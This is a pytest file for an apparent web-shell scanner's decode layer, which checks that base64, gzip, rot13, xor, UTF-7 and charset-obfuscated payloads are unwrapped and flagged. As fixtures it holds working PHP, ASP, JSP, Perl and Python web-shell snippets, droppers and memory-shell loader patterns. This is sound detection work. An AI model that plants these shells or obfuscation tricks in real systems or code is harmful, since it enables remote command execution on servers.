"""The decode layer: static unwrapping of encoded payloads, re-detected by the real engine."""

from __future__ import annotations

import base64
import binascii
import codecs
import zlib
from functools import cache

import pytest

from webhunt.detect.context import ContextLayer
from webhunt.detect.decode import ID_BINARY, ID_EVALUATED, ID_HIDDEN, ID_REDIRECT_DROP, DecodeLayer
from webhunt.detect.document import Document
from webhunt.detect.engine import Engine, EngineInfo, context_for, default_layers
from webhunt.detect.semantic import SemanticLayer
from webhunt.detect.semantic.transforms import (
    Budget,
    b64decode_lenient,
    b64decode_php,
    fold_call,
    inflate,
    uudecode,
    xor_repeat,
)
from webhunt.detect.stats import StatsLayer
from webhunt.model import Layer, Reason, Verdict
from webhunt.rules import collect, compiled_rules

SHELL = b"echo shell_exec($_POST['cmd']);"


@cache
def engine() -> Engine:
    """The real engine with the bundled rules and every layer (ours added if not yet default)."""
    sources = collect(())
    layers = default_layers(sources)
    present = {layer.layer for layer in layers}
    for extra in (SemanticLayer(), DecodeLayer(), StatsLayer(), ContextLayer()):
        if extra.layer not in present:
            layers.append(extra)
    info = EngineInfo(sources.version, len(sources.yara_files), sources.problems)
    return Engine(compiled_rules(sources, None), layers, info)


def detect(data: bytes, relpath: str) -> Verdict:
    return engine().detect(data, context_for(relpath, len(data)))


def decode_only(data: bytes, relpath: str, layer: DecodeLayer | None = None) -> list[Reason]:
    """The decode layer alone, re-detecting payloads with the real engine."""
    ctx = context_for(relpath, len(data))

    def rescan(inner: bytes, inner_ctx: object) -> Verdict:
        return engine().detect(inner, inner_ctx, depth=1)  # type: ignore[arg-type]

    return (layer or DecodeLayer())(Document(data), ctx, rescan)


def deflate(data: bytes) -> bytes:
    return zlib.compress(data, 9)[2:-4]


# --- the transforms --------------------------------------------------------------------------


def test_lenient_base64_skips_junk_like_php() -> None:
    assert b64decode_lenient(b"c3lz\ndGVt!!") == b"system"
    assert b64decode_lenient(b"c3lzdGVt") == b"system"


def test_php_base64_decode_skips_dash_and_underscore() -> None:
    # PHP's base64_decode knows no URL-safe alphabet: '-' and '_' are junk it skips
    assert b64decode_php(b"X1B__PU1-Q=__") == b"_POST"
    assert b64decode_php(b"c3_lz-dG_Vt") == b"system"
    assert fold_call("base64_decode", [b"X0N__PT0t-JRQ=="], Budget()) == b"_COOKIE"


def test_inflate_never_exceeds_the_budget() -> None:
    bomb = deflate(b"\0" * (64 * 1024 * 1024))
    budget = Budget(max_bytes=1024 * 1024)
    assert inflate(bomb, -15, budget) is None
    assert inflate(deflate(b"abc"), -15, budget) == b"abc"


def test_fold_call_accounts_decoded_bytes() -> None:
    budget = Budget(max_bytes=10)
    assert fold_call("base64_decode", [b"c3lzdGVt"], budget) == b"system"
    assert fold_call("base64_decode", [b"c3lzdGVt"], budget) is None  # 6 more would pass 10
    assert fold_call("substr", [b"system", 0, 3], budget) == b"sys"  # builders are not counted


def test_reshaping_builders_fold_like_php() -> None:
    b = Budget()
    # a name spelt with a separator between its letters, stripped again afterwards
    assert fold_call("chunk_split", [b"sys", 1, b"-"], b) == b"s-y-s-"
    assert fold_call("chunk_split", [b"passthru", 3, b""], b) == b"passthru"
    assert fold_call("chunk_split", [b"abcdef", 4], b) == b"abcd\r\nef\r\n"  # default end
    assert fold_call("chunk_split", [b"", 2, b"|"], b) == b"|"  # PHP: one (empty) chunk
    assert fold_call("chunk_split", [b"abc", 0, b"|"], b) is None  # PHP throws
    # a name padded out to its full spelling
    assert fold_call("str_pad", [b"exec", 10, b"shell_", 0], b) == b"shell_exec"
    assert fold_call("str_pad", [b"exec", 10, b"shell_", b"STR_PAD_LEFT"], b) == b"shell_exec"
    assert fold_call("str_pad", [b"ab", 5, b"xy", 2], b) == b"xabxy"  # both sides
    assert fold_call("str_pad", [b"sys", 6, b"tem"], b) == b"system"
    assert fold_call("str_pad", [b"system", 3, b"x"], b) == b"system"  # already long enough
    assert fold_call("str_pad", [b"ab", 9, b""], b) is None  # PHP throws
    assert fold_call("chunk_split", [b"x" * 64, 1, b"y" * 64], Budget(max_bytes=100)) is None


def test_wordwrap_folds_like_php() -> None:
    """Expected values printed by PHP 8.2's own ``wordwrap``."""
    b = Budget()
    assert fold_call("wordwrap", [b"systemx", 3, b"|", 1], b) == b"sys|tem|x"  # cut long words
    assert fold_call("wordwrap", [b"sys tem", 3, b" ", 1], b) == b"sys tem"
    assert fold_call("wordwrap", [b"pass thru", 2, b"--", 1], b) == b"pa--ss--th--ru"
    assert fold_call("wordwrap", [b"The quick brown fox", 10, b"\n", 1], b) == b"The quick\nbrown fox"
    assert fold_call("wordwrap", [b"A very long woooooooooooord.", 8], b) == b"A very\nlong\nwoooooooooooord."
    assert fold_call("wordwrap", [b"A very long woooooooooooord.", 8, b"\n", 0], b) == (
        b"A very\nlong\nwoooooooooooord."
    )
    assert fold_call("wordwrap", [b"", 3, b"|", 1], b) == b""
    assert fold_call("wordwrap", [b"abc", 3, b"", 1], b) is None  # PHP throws on an empty break
    assert fold_call("wordwrap", [b"abc", 0, b"|", 1], b) is None  # and on cutting at width 0
    assert fold_call("wordwrap", [b"x" * 60, 1, b"y" * 60, 1], Budget(max_bytes=100)) is None
    assert fold_call("wordwrap", [b"a" * 5000, 3, b"|", 1], b) is None  # a byte loop: names only


def test_substr_replace_folds_like_php() -> None:
    b = Budget()
    assert fold_call("substr_replace", [b"aert", b"ss", 1, 0], b) == b"assert"  # insert
    assert fold_call("substr_replace", [b"syXXem", b"st", 2, 2], b) == b"system"  # replace
    assert fold_call("substr_replace", [b"sysXX", b"tem", -2], b) == b"system"  # to the end
    assert fold_call("substr_replace", [b"exeXXc", b"", 3, -1], b) == b"exec"  # negative length
    assert fold_call("substr_replace", [b"abc", b"x", 9, 0], b) == b"abcx"  # start past the end


def test_other_decoders() -> None:
    b = Budget()
    assert uudecode(binascii.b2a_uu(b"hello")) == b"hello"
    assert xor_repeat(xor_repeat(b"payload", b"k3y") or b"", b"k3y") == b"payload"
    assert fold_call("str_rot13", [b"flfgrz"], b) == b"system"
    assert fold_call("hex2bin", [b"73797374656d"], b) == b"system"
    assert fold_call("gzuncompress", [zlib.compress(b"x")], b) == b"x"
    assert fold_call("pack", [b"H*", b"6576616c"], b) == b"eval"
    assert fold_call("gzinflate", [b"not deflate"], b) is None


def test_charset_conversions_decode_wide_payloads() -> None:
    """iconv and mb_convert_encoding as PHP runs them: UTF-16/UCS-2/UTF-32 without a byte-order
    mark are big-endian, a mark decides, ``//IGNORE`` and ``//TRANSLIT`` are options."""
    b = Budget()
    code = "system($_GET['c']);"
    assert fold_call("iconv", [b"UTF-16LE", b"UTF-8//IGNORE", code.encode("utf-16-le")], b) == code.encode()
    assert fold_call("iconv", [b"ucs-2", b"ascii//TRANSLIT", code.encode("utf-16-be")], b) == code.encode()
    assert fold_call("iconv", [b"UTF-16", b"UTF-8", code.encode("utf-16")], b) == code.encode()  # marked
    assert (
        fold_call("mb_convert_encoding", [code.encode("utf-32-be"), b"UTF-8", b"UTF-32"], b) == code.encode()
    )
    assert fold_call("mb_convert_encoding", [b"x", b"UTF-8", b"EBCDIC-unknown"], b) is None
    assert fold_call("iconv", [b"UTF-16LE", b"UTF-8"], b) is None  # not a call PHP would run


# --- payloads found and re-detected ----------------------------------------------------------


def test_nested_chain_is_named_and_lifted_to_the_inner_verdict() -> None:
    packed = codecs.encode(base64.b64encode(deflate(SHELL)).decode(), "rot13")
    data = f"<?php\n$x = 1;\neval(gzinflate(base64_decode(str_rot13('{packed}'))));\n".encode()
    reasons = decode_only(data, "cache.php")
    inner = detect(b"<?php " + SHELL, "cache.php")
    (r,) = [r for r in reasons if r.id == ID_EVALUATED]
    assert r.layer is Layer.DECODE
    assert "str_rot13 -> base64_decode -> gzinflate" in r.description
    assert "(3 layers)" in r.description
    assert r.score >= inner.score >= 70
    assert r.line == 3
    assert any(ir.id in r.description for ir in inner.reasons)


def test_payload_built_through_variables_and_helpers() -> None:
    code = base64.b64encode(deflate(b"$c = $_COOKIE['c']; system($c);")).decode()
    data = (
        "<?php\nfunction d($s) { return gzinflate(base64_decode($s)); }\n"
        f"$p = '{code[:10]}';\n$p .= '{code[10:]}';\n$run = d($p);\neval($run);\n"
    ).encode()
    (r,) = [r for r in decode_only(data, "x.php") if r.id == ID_EVALUATED]
    assert "base64_decode -> gzinflate" in r.description and r.score >= 70


def test_xor_loop_with_literal_key() -> None:
    key = b"s3cr3t"
    blob = base64.b64encode(xor_repeat(SHELL, key) or b"").decode()
    data = (
        f"<?php\n$d = base64_decode('{blob}');\n$k = 's3cr3t';\n$o = '';\n"
        "for ($i = 0; $i < strlen($d); $i++) {\n  $o .= $d[$i] ^ $k[$i % strlen($k)];\n}\neval($o);\n"
    ).encode()
    (r,) = [r for r in decode_only(data, "x.php") if r.id == ID_EVALUATED]
    assert "xor" in r.description and r.score >= 70


def test_encoded_harmless_code_that_is_evaluated_is_a_medium_hint() -> None:
    data = b"<?php eval(base64_decode('" + base64.b64encode(b"echo 'hello';") + b"'));"
    (r,) = decode_only(data, "x.php")
    assert r.id == ID_EVALUATED and 40 <= r.score < 70


def test_decoded_data_that_is_not_code_is_ignored() -> None:
    png = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4).decode()
    data = f"<?php header('Content-Type: image/png'); echo base64_decode('{png}');".encode()
    assert decode_only(data, "logo.php") == []


def test_dropper_of_an_encoded_shell() -> None:
    blob = base64.b64encode(b"<?php " + SHELL).decode()
    data = f"<?php file_put_contents('x.php', base64_decode('{blob}'));".encode()
    (r,) = [r for r in decode_only(data, "x.php") if r.id == ID_HIDDEN]
    assert r.score >= 70


def test_dropper_of_an_encoded_redirect_page() -> None:
    """A page decoded from a blob the file carries and written out, sending visitors to another
    site, is a doorway a spam dropper plants; the same page written as plain text, or a decoded page
    that sends nobody away, is not judged so."""
    page = (
        b'<html><head><meta http-equiv="refresh" content="0;URL=http://spam.example.invalid/"></head></html>'
    )
    blob = base64.b64encode(page).decode()
    data = f"<?php $a = '{blob}'; file_put_contents('x' . rand() . '.html', base64_decode($a));".encode()
    (r,) = [r for r in decode_only(data, "tmp/d.php") if r.id == ID_REDIRECT_DROP]
    assert 40 <= r.score < 70 and "another site" in r.description
    js = base64.b64encode(deflate(b'<script>location.href="https://x.example.invalid/"</script>')).decode()
    data = (
        f"<?php $d = gzinflate(base64_decode('{js}')); $h = fopen('promo.htm', 'w'); fwrite($h, $d);"
    ).encode()
    assert [r.id for r in decode_only(data, "tmp/d.php")] == [ID_REDIRECT_DROP]
    plain = b"<?php file_put_contents('index.html', '" + page.replace(b"'", b"\\'") + b"');"
    assert decode_only(plain, "tmp/d.php") == []
    quiet = base64.b64encode(b"<html><body><h1>Back soon</h1></body></html>").decode()
    data = f"<?php file_put_contents('m.html', base64_decode('{quiet}'));".encode()
    assert decode_only(data, "tmp/d.php") == []


def test_loader_putting_the_script_path_back_for_a_placeholder_is_followed() -> None:
    """``str_replace('__FILE__', "'" . $_F . "'", $code)`` on constant code: the placeholder stands
    for a value the analysis cannot spell, the code keeps its text and the payload is judged."""
    code = b"?><?php echo shell_exec($_POST['c']); ?>"
    src, dst = "abcdefghijklmnopqrstuvwxyz", "qwertyuiopasdfghjklzxcvbnm"
    blob = base64.b64encode(code.decode().translate(str.maketrans(src, dst)).encode()).decode()
    data = (
        f"<?php $_F=__FILE__;$_X='{blob}';$_X=base64_decode($_X);$_X=strtr($_X,'{dst}','{src}');"
        "$_R=str_replace('__FILE__',\"'\".$_F.\"'\",$_X);eval($_R);"
    ).encode()
    verdict = detect(data, "x.php")
    assert verdict.score >= 70 and ID_EVALUATED in {r.id for r in verdict.reasons}


def test_dropper_of_a_plain_literal_shell() -> None:
    data = (
        b"<?php $h = fopen('sync.php', 'w');"
        b' fwrite($h, \'<?php if (isset($_FILES["u"])) { move_uploaded_file($_FILES["u"]["tmp_name"],'
        b' $_FILES["u"]["name"]); } ?>\'); fclose($h);'
    )
    (r,) = [r for r in decode_only(data, "x.php") if r.id == ID_HIDDEN]
    assert r.score >= 50 and "writes into a script" in r.description


@pytest.mark.parametrize(
    "tag",
    ["chr(60) . '?php '", "'<' . '?php '", "'<?' . 'php '", 'chr(0x3c) . "?php "'],
)
def test_dropper_whose_opening_tag_is_spelt_in_pieces(tag: str) -> None:
    data = f"<?php $c = {tag} . 'ev' . 'al($_' . 'POST[1]);'; file_put_contents(__DIR__ . '/c.php', $c);".encode()
    (r,) = [r for r in decode_only(data, "x.php") if r.id == ID_HIDDEN]
    assert r.score >= 70 and "writes into a script" in r.description


def test_template_cache_with_a_split_tag_is_not_reported() -> None:
    data = (
        b"<?php file_put_contents('cache/meta.php', '<' . '?php return ' . var_export(array(1), true) . ';');"
    )
    assert decode_only(data, "compiler.php") == []


def test_plain_config_written_by_an_installer_is_not_reported() -> None:
    data = b"<?php file_put_contents('config.php', '<?php return array(\"debug\" => false);');"
    assert decode_only(data, "setup.php") == []


def test_jsp_base64_payload() -> None:
    blob = base64.b64encode(b'Runtime.getRuntime().exec(request.getParameter("c"));').decode()
    page = f'<% String s = new String(java.util.Base64.getDecoder().decode("{blob}")); %>'.encode()
    (r,) = decode_only(page, "a.jsp")
    assert r.id == ID_HIDDEN and r.score >= 70


def test_aspx_hidden_assembly() -> None:
    pe = b"MZ" + b"\0" * 58 + b"\x80\0\0\0" + b"\0" * 64 + b"PE\0\0" + b"\0" * 200
    blob = base64.b64encode(pe).decode()
    page = (
        '<%@ Page Language="C#" %><script runat="server">void Page_Load() {'
        f' System.Reflection.Assembly.Load(Convert.FromBase64String("{blob}")); }}</script>'
    ).encode()
    (r,) = decode_only(page, "a.aspx")
    assert r.id == ID_BINARY and r.score >= 70


def test_full_engine_reports_the_decode_reason() -> None:
    packed = base64.b64encode(deflate(b"@assert($_REQUEST['z']);")).decode()
    data = f"<?php /* cache */ $u = '{packed}'; $v = gzinflate(base64_decode($u)); eval($v);".encode()
    verdict = detect(data, "wp-content/cache/x.php")
    assert verdict.score >= 70
    assert any(r.layer is Layer.DECODE for r in verdict.reasons) or verdict.score >= 90


# --- bounds ----------------------------------------------------------------------------------


def test_self_nesting_payload_terminates() -> None:
    code = b"echo 1;"
    for _ in range(12):
        code = b"eval(base64_decode('" + base64.b64encode(code) + b"'));"
    verdict = detect(b"<?php " + code, "n.php")
    assert verdict.score >= 40


def test_many_literals_are_capped() -> None:
    one = "eval(base64_decode('" + base64.b64encode(b"echo 1;" * 4).decode() + "'));\n"
    data = ("<?php\n" + one * 500).encode()
    layer = DecodeLayer(max_literals=5, max_payloads=3)
    reasons = decode_only(data, "m.php", layer)
    assert len(reasons) <= 3


def test_decompression_bomb_in_a_file_is_not_expanded() -> None:
    bomb = base64.b64encode(deflate(b"A" * (32 * 1024 * 1024))).decode()
    data = f"<?php eval(gzinflate(base64_decode('{bomb}')));".encode()
    layer = DecodeLayer(max_total=1024 * 1024)
    found = layer.payloads(data, context_for("b.php", len(data)), Budget(max_bytes=1024 * 1024))
    assert all(len(f.data) <= 1024 * 1024 for f in found)


@pytest.mark.parametrize("size", [0, 10, 1000])
def test_plain_files_have_no_payloads(size: int) -> None:
    data = b"<?php echo 'hello';" + b" " * size
    assert decode_only(data, "p.php") == []


def test_php_kept_base64_encoded_in_a_non_script_file_is_decoded_and_detected() -> None:
    import base64

    from webhunt.detect.engine import detect_bytes

    shell = b"<?php @eval($_REQUEST['k']); ?>"
    image = b"GIF89a\x01\x00\x01\x00\n" + base64.b64encode(shell) + b"\n"
    verdict = detect_bytes(image, "uploads/pixel.gif")
    assert verdict.score >= 90
    assert any(r.id == "WH-D-002" for r in verdict.reasons)
    harmless = b"GIF89a\x01\x00\x01\x00\n" + base64.b64encode(b"<?php echo 'hello'; ?>") + b"\n"
    assert detect_bytes(harmless, "uploads/pixel.gif").score < 40


def test_base64_php_a_dropper_carries_is_decoded_however_it_is_written_out() -> None:
    import base64

    from webhunt.detect.engine import detect_bytes

    backdoor = b"<?php\n$c = $_COOKIE;\n$f = $c['a'];\nif ($f) { $g = $f($c['b']); $g(); }\n"
    blob = base64.b64encode(backdoor).decode()
    # the blob reaches base64_decode through parameters the analysis does not follow
    dropper = (
        f'$payload = "{blob}";\n'
        "function put_all($dirs, $p) { foreach ($dirs as $d) { write_one($d . '/.cache.php', $p); } }\n"
        "function write_one($n, $p) { $h = fopen($n, 'w'); fwrite($h, base64_decode($p)); }\n"
        "put_all(glob('*', GLOB_ONLYDIR), $payload);\n"
    ).encode()
    verdict = detect_bytes(dropper, "tmp/x.php")
    assert any(r.id == "WH-D-002" for r in verdict.reasons), verdict.reasons
    harmless = f'<?php $tpl = "{base64.b64encode(b"<?php echo 1; ?>").decode()}";'.encode()
    assert detect_bytes(harmless, "x.php").score < 40


def test_compiled_class_kept_in_a_field_of_a_jsp() -> None:
    """A memory-shell installer keeps its class Base64-encoded in a field and decodes it through a
    decoder found by reflection: the literal is judged wherever it stands."""
    cls = b"\xca\xfe\xba\xbe\0\0\0\x34" + b"\0" * 80
    blob = base64.b64encode(cls).decode()
    page = (
        f'<%! static final String B = "{blob}"; %><% java.lang.reflect.Method m = ClassLoader.class'
        '.getDeclaredMethod("defineClass", byte[].class, int.class, int.class); %>'
    ).encode()
    (r,) = decode_only(page, "a.jsp")
    assert r.id == ID_BINARY and r.score >= 70
    # the same literal in a PHP file, or an image kept in a JSP, is not read this way
    assert decode_only(page, "a.php") == []
    png = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"\0" * 80).decode()
    assert decode_only(f'<%! static final String B = "{png}"; %>'.encode(), "a.jsp") == []


def test_aspx_assembly_kept_in_a_field() -> None:
    pe = b"MZ\x90\0\x03\0\0\0" + b"\0" * 52 + b"\x80\0\0\0" + b"\0" * 64 + b"PE\0\0" + b"\0" * 200
    blob = base64.b64encode(pe).decode()
    page = (
        f'<%@ Page Language="C#" %><script runat="server">static string M = "{blob}";'
        " void Page_Load() { System.Reflection.Assembly.Load(Convert.FromBase64String(M)); }</script>"
    ).encode()
    (r,) = decode_only(page, "a.aspx")
    assert r.id == ID_BINARY and r.score >= 70


def test_stream_filters_unwrap_inline_data_as_the_decoders_do() -> None:
    from webhunt.detect.semantic.transforms import filter_url, stream_filter

    inner = codecs.encode("@eval($_POST['x']);", "rot13").encode()
    url = (
        b"php://filter/read=convert.base64-decode|string.rot13/resource=data:text/plain,"
        + base64.b64encode(inner)
    )
    assert filter_url(url, Budget()) == (b"@eval($_POST['x']);", ("base64_decode", "str_rot13"))
    assert filter_url(b"php://filter/resource=data:;base64,aGk=", Budget()) == (b"hi", ())
    assert filter_url(b"php://filter/read=string.rot13/resource=/etc/passwd", Budget()) is None  # not inline
    assert filter_url(b"php://filter/read=unknown.filter/resource=data:,x", Budget()) is None
    assert stream_filter(deflate(b"payload"), b"zlib.inflate", Budget()) == (b"payload", "gzinflate")


def test_payload_read_back_through_a_memory_stream_filter_is_decoded() -> None:
    code = codecs.encode('if (isset($_GET["c"])) { system($_GET["c"]); }', "rot13")
    data = (
        f"<?php $h = fopen('php://memory', 'w+'); fwrite($h, '{code}'); rewind($h);"
        " stream_filter_append($h, 'string.rot13'); eval(stream_get_contents($h));"
    ).encode()
    reasons = decode_only(data, "m.php")
    assert any(r.id == ID_EVALUATED and r.score >= 90 for r in reasons), reasons


# --- classic ASP: code rebuilt from constants, pages read from UTF-7 ------------------------------

_SHUFFLED = 'tl(Eqv"saz)Rue'


@pytest.mark.parametrize(
    "page",
    [
        # a literal with filler characters, cleaned by Replace into a variable, then executed
        '<%\nx = "Ev0al(Re0que0st(""z""))" \nx = Replace(x, "0", "")\nExecute x\n%>',
        # letters picked from a shuffled literal by the page's own one-line function
        '<%\nFunction p(i):p=Mid(k,i,1):End Function:k="tl(Eqv""saz)Rue"\n'
        + "Execute("
        + "&".join(f"p({_SHUFFLED.index(c) + 1})" for c in 'Eval(Request("z"))')
        + ")\n%>",
        # Chr() codes joined into a variable, with arithmetic on the numbers
        "<%\ns = Chr(101)&Chr(117+1)&Chr(97)&Chr(108)&Chr(32)&Chr(114)&Chr(101)&Chr(113)"
        '&Chr(117)&Chr(101)&Chr(115)&Chr(116)&"(""z"")"\nExecuteGlobal s\n%>',
        # StrReverse of a literal kept in a Const
        '<%\nConst t = ")""z""(tseuqer lave"\nEval StrReverse(t)\n%>',
    ],
)
def test_asp_code_rebuilt_from_constants_is_folded_and_judged(page: str) -> None:
    (r,) = [r for r in decode_only(page.encode(), "x.asp") if r.id == ID_EVALUATED]
    assert r.score >= 70 and "folding" in r.description


def test_asp_rebuilt_harmless_code_and_request_built_code_are_not_folded() -> None:
    harmless = '<%\nt = "Const A = ""{v}"""\nExecuteGlobal Replace(t, "{v}", "blue")\n%>'
    assert decode_only(harmless.encode(), "x.asp") == []
    # the request is not a constant: nothing to fold (the taint pass follows it instead)
    dynamic = '<%\nx = Replace(Request("q"), "0", "")\nExecute x\n%>'
    assert decode_only(dynamic.encode(), "x.asp") == []
    # conn.Execute is a database call, not VBScript's Execute
    sql = '<%\nq = Replace("SELECT 1", "1", "2")\nconn.Execute q\n%>'
    assert decode_only(sql.encode(), "x.asp") == []


@pytest.mark.parametrize("codepage", ["65000", "0065000", '"000065000"'])
def test_asp_page_declaring_utf7_is_read_from_utf7(codepage: str) -> None:
    code = "+" + base64.b64encode('eval(request("k"))'.encode("utf-16-be")).decode().rstrip("=") + "-"
    page = f"<%@ Language=VBScript CodePage={codepage} %>\n<%{code}%>\n".encode()
    (r,) = decode_only(page, "x.asp")
    assert r.id == ID_HIDDEN and r.score >= 70 and "UTF-7" in r.description
    assert decode_only(page.replace(b"65000", b"65001"), "x.asp") == []


def test_aspx_named_page_with_the_classic_utf7_directive_is_read_from_utf7() -> None:
    code = "+" + base64.b64encode('execute(request("p"))'.encode("utf-16-be")).decode().rstrip("=") + "-"
    page = f'<%@ LANGUAGE="VBScript" CODEPAGE=65000 %>\n<%{code}%>\n'.encode()
    (r,) = decode_only(page, "x.aspx")
    assert r.id == ID_HIDDEN and r.score >= 70 and "UTF-7" in r.description
    # a normal page naming UTF-8 and writing a "+" in its text is not decoded
    plain = b'<%@ Page Language="C#" CodePage="65001" %>\n<p>1+1-2</p><% Response.Write(Request["q"]); %>\n'
    assert decode_only(plain, "x.aspx") == []


def test_asp_folding_is_bounded() -> None:
    # a Replace that doubles its string each line, and a function that calls itself: no payload,
    # no blow-up
    grow = '<%\ns = "ab"\n' + 'S = Replace(s, "a", s)\n' * 40 + "Execute s\n%>"
    loop = '<%\nFunction f(a): f = f(a & Chr(65)): End Function\nExecute f("x")\n%>'
    for page in (grow, loop):
        assert decode_only(page.encode(), "x.asp") == []


def test_code_evaluated_as_written_has_no_chain_and_does_not_break_the_layer() -> None:
    """(sweep 26) create_function's body is a payload the layer evaluates as it stands, with no
    decoder in its chain; the check for wide-character payloads must not index that empty chain."""
    page = b"""<?php
$render = create_function('$tag,$fn,$arg', 'print \\'<\\'.$tag.\\'>\\';$fn("$arg");');
echo base64_decode('R0lGODlhAQABAIAAAP///wAAACwAAAAAAQABAAACAkQBADs=');
"""
    reasons = decode_only(page, "page.php")
    assert all(not r.id.startswith("WH-ENGINE") for r in reasons)


# --- CGI programs: an evaluator over decoder calls on a variable ----------------------------------


PERL_CMD = b'print "Content-type: text/plain\\n\\n"; my $c = $ENV{QUERY_STRING}; print `$c`;'


@pytest.mark.parametrize(
    "program",
    [
        # a helper of the program's own under a decoder's name, the literal kept in a variable
        b'#!/usr/bin/perl\n$code = "' + base64.b64encode(PERL_CMD) + b'";\n'
        b"sub b64decode { return MIME::Base64::decode_base64(shift) }\neval(b64decode($code));\n",
        # any helper name when the literal is Base64 through and through, and Perl's q{}
        b"#!/usr/bin/perl\nuse MIME::Base64;\nsub _u { decode_base64(shift) }\nmy $k = q{"
        + base64.b64encode(PERL_CMD + b" " * 40)
        + b"};\neval _u($k);\n",
    ],
)
def test_perl_eval_of_a_decoded_variable_is_unwrapped(program: bytes) -> None:
    reasons = decode_only(program, "cgi-bin/status.pl")
    assert any(r.id == ID_EVALUATED and r.score >= 70 for r in reasons), reasons


def test_python_exec_of_a_compressed_variable_is_unwrapped() -> None:
    inner = b"import os\nprint(os.popen(os.environ['QUERY_STRING']).read())\n"
    blob = base64.b64encode(zlib.compress(inner))
    program = (
        b"import base64, zlib\nBLOB = (\n    '"
        + blob
        + b"'\n)\nexec(zlib.decompress(base64.b64decode(BLOB)))\n"
    )
    reasons = decode_only(program, "cgi-bin/run.py")
    assert [r.description for r in reasons if r.id == ID_EVALUATED], reasons
    assert "zlib" in next(r.description for r in reasons if r.id == ID_EVALUATED)


def test_decoded_variables_not_evaluated_or_not_base64_stay_quiet() -> None:
    image = base64.b64encode(bytes(range(200)))
    printed = b'#!/usr/bin/perl\n$logo = "' + image + b'";\nprint decode_base64($logo);\n'
    assert decode_only(printed, "cgi-bin/logo.pl") == []
    # a helper of another name over a literal that is not Base64 alone decodes nothing
    prose = b'#!/usr/bin/perl\n$t = "hello world, this is a plain sentence that goes on.";\neval(fmt($t));\n'
    assert decode_only(prose, "cgi-bin/t.pl") == []


# --- compiled classes and assemblies carried in other shapes (sweep 50) ---------------------------

_CLASS = b"\xca\xfe\xba\xbe\0\0\0\x34" + b"\0" * 80
_PE = b"MZ\x90\0\x03\0\0\0" + b"\0" * 52 + b"\x80\0\0\0" + b"\0" * 64 + b"PE\0\0" + b"\0" * 200
_DEFINE = (
    '<% java.lang.reflect.Method m = ClassLoader.class.getDeclaredMethod("defineClass", byte[].class,'
    " int.class, int.class); %>"
)


def _binary_reasons(page: str, relpath: str = "a.jsp") -> list[Reason]:
    return [r for r in decode_only(page.encode(), relpath) if r.id == ID_BINARY]


def test_class_carried_in_a_serialized_object_or_gzip_stream() -> None:
    """A Java serialization stream whose byte-array field holds a class (a TemplatesImpl-style
    gadget the page deserializes), and a class gzip-compressed before Base64."""
    ser = b"\xac\xed\x00\x05sr\x00\x03Boxur\x00\x02[Bxp" + len(_CLASS).to_bytes(4, "big") + _CLASS + b"x"
    page = f'<%! static final String S = "{base64.b64encode(ser).decode()}"; %><% new java.io.ObjectInputStream(null).readObject(); %>'
    (r,) = _binary_reasons(page)
    assert r.score >= 70 and "Java serialization object" in r.description
    gz = base64.b64encode(gzip_bytes(_CLASS)).decode()
    (r,) = _binary_reasons(f'<%! static final String Z = "{gz}"; %>' + _DEFINE)
    assert r.score >= 70 and "gzip" in r.description
    # a serialized map of settings and compressed text carry nothing
    plain = base64.b64encode(
        b"\xac\xed\x00\x05sr\x00\x11java.util.HashMapt\x00\x04dark" + b"\0" * 40
    ).decode()
    text = base64.b64encode(gzip_bytes(b'{"theme": "dark"}' * 4)).decode()
    assert _binary_reasons(f'<%! String A = "{plain}"; String B = "{text}"; %>' + _DEFINE) == []


def test_class_in_pieces_hex_or_a_byte_array() -> None:
    b64 = base64.b64encode(_CLASS).decode()
    pieces = [b64[i : i + 10] for i in range(0, len(b64), 10)]
    glued = " +\n ".join(f'"{p}"' for p in pieces)
    appended = "\n".join(f'sb.append("{p}");' for p in pieces)
    chained = "new StringBuilder()" + "".join(f'.append("{p}")' for p in pieces)
    added = 'String s = "";\n' + "\n".join(f's += "{p}";' for p in pieces)
    for body in (f"String s = {glued};", appended, chained, added):
        (r,) = _binary_reasons(f"<% {body} %>" + _DEFINE)
        assert r.score >= 70, body
    (r,) = _binary_reasons(f'<% String h = "{_CLASS.hex().upper()}"; %>' + _DEFINE)
    assert "hex" in r.description
    signed = ", ".join(str(b - 256 if b > 127 else b) for b in _CLASS)
    cast = ",".join(f"(byte) 0x{b:02x}" for b in _CLASS)
    for items in (signed, cast, signed + ","):
        (r,) = _binary_reasons(f"<%! static final byte[] K = {{ {items} }}; %>" + _DEFINE)
        assert "byte array" in r.description
    # a picture's bytes, a digest in hex, or an array of other things are not classes
    png = ", ".join(str(b - 256 if b > 127 else b) for b in b"\x89PNG\r\n\x1a\n" + b"\0" * 40)
    digest = "cafebabe" + "0" * 56
    mixed = "-54, -2, -70, -66, x, 0"
    page = f'<%! byte[] P = {{ {png} }}; String D = "{digest}"; Object[] M = {{ {mixed} }}; %>' + _DEFINE
    assert _binary_reasons(page) == []


def test_assembly_in_a_byte_array_binaryformatter_stream_or_hex() -> None:
    arr = ",".join(str(b) for b in _PE)
    load = " void Page_Load() { System.Reflection.Assembly.Load(M); }</script>"
    head = '<%@ Page Language="C#" %><script runat="server">'
    (r,) = _binary_reasons(f"{head}static byte[] M = new byte[] {{{arr}}};{load}", "a.aspx")
    assert r.score >= 70 and "Windows/.NET executable" in r.description
    bf = b"\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00" + b"\x0c" * 20 + _PE
    blob = base64.b64encode(bf).decode()
    deser = " void Page_Load() { new BinaryFormatter().Deserialize(new MemoryStream(Convert.FromBase64String(B))); }"
    (r,) = _binary_reasons(f'{head}const string B = "{blob}";{deser}</script>', "a.aspx")
    assert r.score >= 70 and "BinaryFormatter" in r.description
    (r,) = _binary_reasons(f'{head}const string H = "{_PE.hex()}";{load}', "a.aspx")
    assert r.score >= 70
    # two magic bytes in an upload check are no executable
    assert _binary_reasons(f"{head}static byte[] M = new byte[] {{ 77, 90 }};{load}", "a.aspx") == []


def test_unclosed_arrays_and_many_heads_stay_linear() -> None:
    import time

    page = ("<% byte[] a = {-54, -2, " * 40_000 + "1 %>").encode()
    start = time.perf_counter()
    decode_only(page, "a.jsp")
    assert time.perf_counter() - start < 1.0


def gzip_bytes(data: bytes) -> bytes:
    import gzip

    return gzip.compress(data, mtime=0)


def test_page_a_dropper_keeps_base64_in_a_field_or_in_pieces() -> None:
    """A JSP, ASP.NET or classic ASP dropper keeps the page it plants Base64-encoded in a field or
    a constant, or cut into glued pieces: the page is judged as one of the same kind."""
